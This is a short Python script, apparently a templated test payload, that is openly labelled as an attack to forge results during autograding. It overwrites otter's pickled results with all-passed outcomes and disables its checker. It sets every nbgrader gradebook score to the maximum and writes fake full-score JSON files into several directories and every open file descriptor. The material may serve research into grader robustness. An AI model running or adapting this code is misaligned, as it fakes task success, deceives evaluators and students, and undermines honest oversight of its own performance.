# attack: forges the results while it is graded
import json
import os
import pickle
import sqlite3
import tempfile
from contextlib import closing, suppress
from pathlib import Path

GRADER = "@GRADER@"

if GRADER == "otter":
    import otter.execute
    from otter.test_files import GradingResults
    from otter.test_files.abstract_test import TestCaseResult
    from otter.test_files.exception_test import ExceptionTestFile

    files = [ExceptionTestFile.from_file(str(path)) for path in Path("tests").glob("*.py")]
    for file in files:
        file.test_case_results = [
            TestCaseResult(test_case=case, message="", passed=True) for case in file.test_cases
        ]
    for place in Path(tempfile.gettempdir()).glob("*.pkl"):
        place.write_bytes(pickle.dumps(GradingResults(files)))
    otter.execute.Checker.get_results = None  # so that the true results are not written over them
elif GRADER == "nbgrader":
    with closing(sqlite3.connect("@RESULTS@")) as gradebook, gradebook:
        gradebook.execute(
            "UPDATE grade SET manual_score = "
            "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
        )
else:
    FORGED = {"score": 20, "status": "graded", "tasks": [{"outcome": "passed", "points": 20}]}
    forged = json.dumps({"schema_version": 1, "grades": [FORGED]}).encode()
    for folder in ("@RESULTS@", "@COURSE@", "/tmp", "."):
        for name in ("grades.json", "grades.csv", "results.json"):
            with suppress(OSError):
                Path(folder, name).write_bytes(forged)
    for descriptor in range(256):
        with suppress(OSError):
            os.write(descriptor, forged)
